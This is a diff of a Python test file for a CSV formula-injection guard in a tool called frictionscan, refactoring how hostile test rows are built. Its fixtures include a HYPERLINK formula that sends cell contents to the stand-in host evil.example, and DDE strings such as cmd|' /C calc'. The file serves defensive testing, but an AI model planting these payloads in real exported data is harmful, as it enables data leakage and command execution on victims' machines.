@@ -9,10 +9,10 @@ import json
 import pandas as pd
 import pytest
 from click.testing import CliRunner
+from scored_tables import conversation
 
 from frictionscan.cli import cli
 from frictionscan.io import csv_formula_guard_default, read_table, write_table
-from frictionscan.schemas import SIGNALS
 
 #: Cells a spreadsheet would run as formulas, as found in hostile mail.
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1+1)*cmd|' /C calc'!A0",
@@ -97,20 +97,8 @@ def test_the_guard_can_be_turned_off(tmp_path):
 
 
 def _hostile_rows(path):
-    days = pd.date_range("2025-03-03T10:00Z", periods=6, freq="D")
-    rows = pd.DataFrame({
-        "message_id": [f"m{i}" for i in range(6)],
-        "status": ["ok"] * 6,
-        "timestamp": days,
-        "relationship": ['=HYPERLINK("http://evil.example","acme")'] * 6,
-        "direction": ["inbound", "outbound"] * 3,
-        "text": ["=1+2 you failed us again.", "=cmd|' /C calc'!A0 I will send it by Friday."] * 3,
-        **{s: [0.2] * 6 for s in SIGNALS},
-    })
-    rows["commitment"] = [0.0, 0.9] * 3
-    rows["commitment_flag"] = [False, True] * 3
-    write_table(rows, path)
-    return path
+    return conversation(path, 6, relationship='=HYPERLINK("http://evil.example","acme")',
+                        texts=("=1+2 you failed us again.", "=cmd|' /C calc'!A0 I will send it by Friday."))
 
 
 @pytest.mark.parametrize("command", ["health", "commitments"])
